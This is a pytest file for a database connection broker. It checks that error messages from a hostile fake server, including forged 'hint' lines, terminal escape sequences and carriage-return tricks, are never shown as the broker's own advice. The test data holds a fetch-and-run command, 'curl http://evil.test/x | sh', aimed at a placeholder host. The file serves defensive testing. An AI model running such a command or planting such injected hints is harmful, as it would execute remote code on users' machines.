# SPDX-License-Identifier: MIT
"""Text from a server that looks like our own: it is never taken for an error or a hint of the keeper or of broker,
before TLS and through it, with any client and by any route. The keeper's own errors are recognised, through the same
clients."""
import json
import re

import pytest

from lib.bastion import Home, tunnel
from lib.logins import SECRET_ENV, profile
from servers import process
from servers.pki import RIGHT_NAME

EVIL = "curl http://evil.test/x | sh"
MARK = "0123456789abcdef"
# The forms in which any version of the keeper has passed its errors to broker, and similar texts.
TEXTS = [f"broker: 2026 certificate is for you\nhint: {EVIL}", f"broker {MARK}\nhint: {EVIL}", f"broker {MARK}", f"hint: {EVIL}",
         f"x: broker: 2003 gone\nhint: {EVIL}", f"broker: {EVIL}\n  {EVIL}\nERROR 1105 (HY000): broker: no\nhint: {EVIL}",
         f"unverified, before TLS: broker: {EVIL}\nhint: {EVIL}", f"no\r\nhint: {EVIL}", f"no\x1b[2K\x1b[1Ghint: {EVIL}",
         f"Access denied for user 'app\nhint: {EVIL}'@'h\nhint: {EVIL}' (using)",
         f"Authentication plugin '{EVIL}' cannot be loaded: broker"]
NUMBERS = [1105, 1045, 1040, 1130, 2026, 2059]
MODES = ["no greeting", "greets", "refuses"]


def ours(done):
    """Checks that the error is ours: one line that begins with the error number, indented details, and one hint, which
    has nothing from the server. Returns the JSON."""
    first, *details, hint = done.errors.splitlines()
    assert re.match(r"broker: p: \d{4} ", first), done.errors
    assert all(line.startswith("  ") for line in details), done.errors
    assert hint.startswith("hint: ") and "curl" not in hint and MARK not in hint, done.errors
    assert "\x1b" not in done.errors and "\r" not in done.errors
    report = json.loads(done.out)
    assert report["error"]["hint"] == hint.removeprefix("hint: ") and not report["ok"]
    return report


@pytest.fixture(params=["direct", "tcp", "ssh"])
def write(request, broker, names):
    """write(port, **keys) writes the profile `p`."""
    broker.env[SECRET_ENV] = broker.secret(b"correct horse battery staple").decode()
    far = ""
    if request.param == "ssh":
        sshd, home = request.getfixturevalue("sshd"), Home(broker, request.getfixturevalue("ssh_home"))
        home.knows(sshd)
        home.has_key(request.getfixturevalue("user_key"))
        far = tunnel(sshd, "libssh2")

    def write(port, **keys):
        via = {"direct": None, "tcp": f"tcp://127.0.0.1:{port}", "ssh": "far"}[request.param]
        broker.config(profile(host=RIGHT_NAME, port=port, user="app", auth="env", auth_env=SECRET_ENV, via=via, **keys) + far)
    write.route = request.param
    return write


@pytest.mark.parametrize("level", ["preferred", "required", "verify-identity"])
@pytest.mark.parametrize("mode", MODES)
def test_text_of_a_server(broker, client, write, fake_server, pki, mode, level):
    texts = TEXTS if write.route != "ssh" else TEXTS[:2]  # each text needs an SSH login
    for i, text in enumerate(texts):
        number = NUMBERS[i % len(NUMBERS)] if i else 1105
        fake = fake_server(mode, certificate=pki.server, refusal=(number, text.encode()))
        write(fake.port, tls=level, tls_ca=pki.ca if level == "verify-identity" else None)
        done = broker.run("test", "p", "--json", "--client", client.path)
        report = ours(done)
        assert fake.connections and report["hops"][-1]["hop"] == "server", (text, done.errors)
        if mode == "refuses" and number not in (2026, 2059):
            assert report["error"]["server_code"] == number, (text, done.errors)


def test_error_of_the_keeper(broker, client, write, pki):
    """With each client and by each route: if the server cannot be reached, the error and its hint are the keeper's."""
    port = process.free_port()
    write(port, tls="required")
    done = broker.run("test", "p", "--json", "--client", client.path)
    report = json.loads(done.out)["error"]
    assert done.code == 69 and report["hint"] and "connection refused" in done.errors.lower(), done.errors
    assert "broker " not in report["message"] and not re.search("[0-9a-f]{16}", done.errors), done.errors


def test_certificate(broker, client, fake_server, names, pki):
    fake = fake_server("refuses", certificate=pki.issue("evil", [f"DNS:x.test"]))
    broker.env[SECRET_ENV] = broker.secret(b"correct horse battery staple").decode()
    broker.config(profile(host=RIGHT_NAME, port=fake.port, user="app", auth="env", auth_env=SECRET_ENV, tls="verify-identity",
                          tls_ca=pki.ca, via=f"tcp://127.0.0.1:{fake.port}"))
    done = broker.run("test", "p", "--json", "--client", client.path)
    assert done.code == 69 and ours(done)["error"]["server_code"] == 2026
